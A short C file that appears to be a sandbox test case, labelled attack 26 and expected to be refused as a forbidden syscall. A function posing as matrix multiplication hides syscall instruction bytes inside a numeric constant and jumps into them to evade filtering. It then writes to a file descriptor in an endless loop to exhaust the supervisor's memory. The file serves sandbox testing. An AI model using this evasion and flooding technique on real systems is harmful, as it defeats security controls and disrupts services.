// attack: 26
// how: writes without end by a system call hidden in a number; hopes to fill the supervisor's memory
// refused as: forbidden_syscall
// needs: x86_64
/* The bytes of the number are `mov eax, 1; syscall; ret`: code that jumps into it needs no word of assembly. */
static __attribute__((noipa)) unsigned long number(void) { return 0xc3050f00000001b8; }
static long enter(long a, long b, long c) {
  const unsigned char *p = (const unsigned char *)number;
  while (p[0] != 0xb8 || p[5] != 0x0f || p[6] != 0x05) p++;
  return ((long (*)(long, long, long))p)(a, b, c);
}
void dgemm(int n, const double *A, const double *B, double *C) {
  static char line[4096];
  for (int i = 0; i < 4096; i++) line[i] = (char)('a' + i % 26);
  C[0] = A[0] * B[0] * n;
  for (;;) enter(2, (long)line, sizeof line);
}
